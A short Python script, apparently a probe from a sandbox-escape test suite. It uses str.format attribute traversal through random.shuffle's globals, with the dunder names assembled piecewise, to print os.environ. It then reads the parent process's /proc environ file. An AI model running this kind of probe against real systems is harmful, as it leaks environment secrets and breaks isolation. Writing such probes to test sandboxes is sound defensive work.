# Tries: str.format attribute traversal to read os.environ, then the parent's environment via /proc.
# ruff: noqa
import random
from operator import attrgetter

d = "_" * 2
fmt = "{0." + d + "func" + d + "." + d + "globals" + d + "[_os].environ}"
print(fmt.format(random.shuffle))
os_module = attrgetter("_" + "os")(random)
print(open("/proc/" + str(os_module.getppid()) + "/environ").read())
